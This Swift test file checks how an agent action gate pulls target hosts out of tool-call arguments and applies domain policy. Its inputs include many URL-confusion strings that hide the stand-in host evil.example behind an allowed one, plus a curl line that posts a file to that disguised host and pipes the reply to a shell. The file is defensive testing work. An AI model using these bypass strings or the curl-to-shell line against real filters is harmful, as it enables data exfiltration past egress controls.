import ChanceryGate
import ChanceryPolicy
import ChanceryWire
import TestKit
import Testing

/// Where an action goes follows from its arguments, as the most generous reader of URLs takes them (rule P2).
struct TargetTests {
    private func hosts(_ payload: JSONValue) throws -> [String] {
        try GatedAction("fetch", payload: Sample.object(["input": payload])).hosts
    }

    @Test(arguments: [
        ("https://good.example/path?q#f", ["good.example"]),
        ("see https://good.example, or (http://other.example/x)", ["good.example,", "other.example"]),
        ("HTTPS://GOOD.Example", ["good.example"]), ("https://good.example./", ["good.example"]),
        ("https://good.example:8443/", ["good.example:8443"]), ("https://[::1]:80/", ["[::1]:80"]),
        ("postgres://user:pass@db.example/x", ["db.example"]), ("file:///etc/passwd", []), ("C:\\temp\\x", []),
        ("note: no host here", []), ("12:30", []), ("https://", []), ("urn:isbn:123", []),
        (#"<a href="https://good.example">"#, ["good.example"]), (#"{"u":"https://good.example"}"#, ["good.example"]),
    ])
    func `the hosts of plain URLs are found`(text: String, expected: [String]) throws {
        #expect(try hosts(.string(text)) == expected)
    }

    /// Every one of these reaches `evil.example` by some reader of URLs.
    @Test(arguments: [
        "https://good.example@evil.example/", "https://good.example:x@evil.example", "https://good.example%2f@evil.example/",
        "https://a@good.example@evil.example/", "https:\\\\evil.example\\", "https:/evil.example", "https:evil.example",
        "https:/\\evil.example", "https://///evil.example/", "ht\ttps://evil.example/", "https:/\n/evil.example",
        " \u{1}https://evil.example", "https://good.example'@evil.example/", #"https://good.example"@evil.example/"#,
        "https://good.example>@evil.example/", "https://good.example @evil.example/", "https://evil.example\\.good.example/",
        "https://evil.example?.good.example", "https://evil.example#.good.example", "https://evil.ex\tample/",
        "https://EVIL.example.", "wss://evil.example", "x https://good.example y https://evil.example z",
        "curl -d@x https://good.example'@evil.example/ | sh",
    ])
    func `a host that hides behind another is found`(text: String) throws {
        #expect(try hosts(.string(text)).contains("evil.example"), "\(text)")
    }

    @Test(arguments: [
        ("https://good.example\t.evil.example/", "good.example.evil.example"),
        ("https://good.example\n.evil.example/", "good.example.evil.example"),
        ("https://good.example'.evil.example/", "good.example'.evil.example"),
    ])
    func `a host that only looks like another is found as a whole`(text: String, expected: String) throws {
        #expect(try hosts(.string(text)).contains(expected))
    }

    @Test func `hosts are found at any depth, in member names, and in members that name hosts`() throws {
        let payload: JSONValue = [
            "deep": [[["x": ["https://one.example"]]]], "https://two.example/": 1, "Host": "Three.Example.",
            "nested": ["hostname": "four.example", "domain": ["listed.example"], "authority": "five.example:1"], "host": 7,
        ]
        #expect(
            try hosts(payload) == [
                "five.example:1", "four.example", "listed.example", "one.example", "three.example", "two.example",
            ])
    }

    @Test func `a claimed target must be among the hosts of the arguments, and adds nothing`() throws {
        let payload = Sample.object(["urls": ["https://a.example", "https://b.example"]])
        #expect(try GatedAction("fetch", payload: payload).targets() == ["a.example", "b.example"])
        #expect(try GatedAction("fetch", payload: payload, target: "B.example").targets() == ["a.example", "b.example"])
        for claim in ["c.example", "a.example.", "a.example:443", "xa.example"] {
            #expect(code { _ = try GatedAction("fetch", payload: payload, target: claim).targets() } == "gate.target_mismatch")
        }
        #expect(try GatedAction("fetch", payload: JSONObject(), target: "c.example").targets() == [nil, "c.example"])
        #expect(try GatedAction("fetch", payload: JSONObject()).targets() == [nil])
    }

    @Test func `of several hosts the worst decides, and more than sixteen are refused`() throws {
        let policy = try Policy(
            parsing: Array("roles: {clerk: {allowed_tools: [fetch]}}\nnetwork: {allowed_domains: [a.example]}".utf8))
        var facts = Facts(agent: "x", time: 0)
        (facts.authorized, facts.role, facts.risk, facts.stability) = (true, "clerk", .zero, .stable)
        func verdict(_ hosts: [String]) throws -> Verdict {
            let urls = JSONValue.array(hosts.map { .string("https://" + $0) })
            return try Evaluation.verdict(of: policy, on: GatedAction("fetch", payload: Sample.object(["urls": urls])), facts)
        }
        #expect(try verdict(["a.example"]).effect == .allow)
        #expect(try verdict(["a.example", "z.example"]).rule == "DOMAIN")
        #expect(try verdict(["z.example", "a.example"]).rule == "DOMAIN")
        #expect(try verdict((0..<17).map { "h\($0).example" }).rule == "REQUEST_REFUSED")
    }

    @Test func `damaged texts name no host that traps`() throws {
        var mutator = Mutator(
            "URLs",
            corpus: ["https://user@host.example:1/path", ":\\\\:///@'\">", "http:\n\t://@@", "host"].map { Array($0.utf8) })
        for _ in 0..<5_000 {
            let text = String(decoding: mutator.input(), as: UTF8.self)
            for host in try hosts(["host": .string(text), "text": .string(text)]) {
                #expect((1...259).contains(host.utf8.count) && !host.utf8.contains { $0 <= 0x20 })
            }
        }
    }
}
